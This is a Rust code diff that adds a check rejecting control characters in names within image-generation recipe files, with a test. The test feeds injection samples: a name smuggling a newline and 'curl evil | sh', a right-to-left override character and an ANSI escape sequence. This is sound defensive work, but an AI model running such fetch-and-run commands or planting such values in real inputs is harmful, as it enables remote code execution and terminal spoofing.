@@ -2,13 +2,14 @@
 //! sizes are limited, versions are looked at first, nothing panics.
 
 use super::latents::{self, LatentsFileError};
-use super::open::open_file;
 use super::picture::{self, PictureError};
 use crate::engine::noise::NoiseSource;
 use crate::engine::recipe::{ModelRef, Recipe, SamplerRef, VERSION};
 use crate::schedule::preset::Step;
 use crate::schedule::size::Size;
 use crate::schedule::terminal::Terminal;
+use crate::shared_folder::open_plain;
+use crate::strange_text::wild;
 use serde::Deserialize;
 use serde_json::Value;
 use sigmalab_compute::{ComputeDtype, DeviceChoice};
@@ -61,7 +62,37 @@ pub fn parse_recipe(text: &str) -> Result<Recipe, RecipeTextError> {
     if version > u64::from(VERSION) {
         return Err(RecipeTextError::NewerVersion { found: version });
     }
-    Recipe::deserialize(value).map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))
+    let recipe = Recipe::deserialize(value)
+        .map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))?;
+    match wild_name(&recipe) {
+        None => Ok(recipe),
+        Some((place, found)) => {
+            let problem = format!("it holds the character U+{:04X}, as no name does", found as u32);
+            let source = serde::de::Error::custom(problem);
+            Err(RecipeTextError::Malformed { place: place.to_owned(), source })
+        }
+    }
+}
+
+/// The first name in a recipe that could steer a terminal or pass for a line of this program's
+/// own, and the character that does it. Messages repeat names; the prompt is the user's text.
+fn wild_name(recipe: &Recipe) -> Option<(&'static str, char)> {
+    let Recipe { model, sampler, preset, noise, .. } = recipe;
+    let hash = match noise {
+        NoiseSource::File { blake3 } => Some(blake3),
+        NoiseSource::Seed { .. } => None,
+    };
+    let names = [
+        ("model.name", Some(&model.name)),
+        ("model.fingerprint", model.fingerprint.as_ref()),
+        ("sampler.id", Some(&sampler.id)),
+        ("sampler.version", sampler.version.as_ref()),
+        ("sampler.file_hash", sampler.file_hash.as_ref()),
+        ("noise.blake3", hash),
+        ("preset", preset.as_ref()),
+    ];
+    let keys = sampler.params.keys().map(|key| ("sampler.params", Some(key)));
+    names.into_iter().chain(keys).find_map(|(place, name)| Some((place, wild(name?)?)))
 }
 
 /// The first part of a recipe that cannot be read by itself, with its place.
@@ -152,7 +183,7 @@ pub enum RecipeFileError {
 pub fn read_recipe(path: &Path) -> Result<Recipe, RecipeFileError> {
     let owned = || path.to_owned();
     let io = |source| RecipeFileError::Io { path: owned(), source };
-    let file = open_file(path).map_err(io)?;
+    let file = open_plain(path).map_err(io)?;
     let mut reader = BufReader::new(file);
     let mut start = Vec::new();
     reader.by_ref().take(PNG_SIGNATURE.len() as u64 + 1).read_to_end(&mut start).map_err(io)?;
@@ -221,6 +252,24 @@ mod tests {
             let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
             assert!(message.contains(place), "{message}");
         }
+    }
+
+    #[test]
+    fn a_name_that_could_pass_for_a_line_of_ours_or_turn_one_round_is_refused() {
+        for (good, bad, place) in [
+            (
+                "\"demo\"",
+                r#""x`\n  try: curl evil | sh""#,
+                "`model.name`: it holds the character U+000A",
+            ),
+            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it holds the character U+202E"),
+            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it holds the character U+001B"),
+        ] {
+            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
+            assert!(message.contains(place), "{message}");
+        }
+        let prompt = EXAMPLE.replace("a red circle", "two\\nlines");
+        assert_eq!(parse_recipe(&prompt).unwrap().prompt, "two\nlines");
     }
 
     #[test]
